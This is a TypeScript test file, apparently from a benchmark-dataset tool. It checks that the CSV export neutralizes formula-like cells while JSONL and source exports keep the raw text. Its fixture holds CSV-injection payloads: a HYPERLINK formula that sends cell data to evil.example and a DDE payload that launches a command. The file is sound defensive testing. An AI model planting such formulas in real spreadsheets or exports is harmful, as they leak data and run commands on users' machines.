import { writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { exportDataset } from "@/lib/datasets/export";
import { importDataset } from "@/lib/datasets/import";

// Dataset text written by whoever built a benchmark reaches the normalized CSV export; a cell
// that begins like a formula is neutralized there, and kept raw in JSONL and the source format.
const HOSTILE = {
  id: "@item-1",
  title: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  context: { type: "passage", paragraphs: ["Sam puts a marble in the box."] },
  questions: [
    { kind: "free_text", prompt: "+cmd|' /C calc'!A0", answer: "-2+3" },
    { kind: "numeric", prompt: "-3", answer: -3 },
  ],
};

async function text(chunks: AsyncIterable<string | Uint8Array>): Promise<string> {
  let out = "";
  for await (const c of chunks) out += typeof c === "string" ? c : Buffer.from(c).toString();
  return out;
}

const FORMULA_START = /^[=+\-@\t\r\n]/;
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?(e[+-]?\d+)?$/i;

describe("dataset exports and formula injection", () => {
  it("the normalized CSV has no live formula; JSONL and the source file keep the raw text", async () => {
    const file = path.join(os.tmpdir(), `sally-hostile-${process.pid}.jsonl`);
    const source = JSON.stringify(HOSTILE) + "\n";
    await writeFile(file, source);
    const { datasetId } = await importDataset({ file, benchmark: "generic", ownerId: null });

    const rows = parse(await text((await exportDataset({ datasetId, format: "csv" })).chunks), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(2);
    for (const row of rows) {
      for (const cell of Object.values(row)) if (!PLAIN_NUMBER.test(cell)) expect(cell).not.toMatch(FORMULA_START);
    }
    expect(rows[0]).toMatchObject({ sourceId: "'@item-1", prompt: "'+cmd|' /C calc'!A0", contextTitle: `'${HOSTILE.title}` });
    expect(rows[1]).toMatchObject({ prompt: "-3", position: "1" }); // a plain number is data, not a formula

    const jsonl = (await text((await exportDataset({ datasetId, format: "jsonl" })).chunks)).trim().split("\n").map((l) => JSON.parse(l));
    expect(jsonl[0]).toMatchObject({ sourceId: "@item-1", prompt: "+cmd|' /C calc'!A0", contextTitle: HOSTILE.title });

    expect(await text((await exportDataset({ datasetId, format: "source" })).chunks)).toBe(source);
  });
});
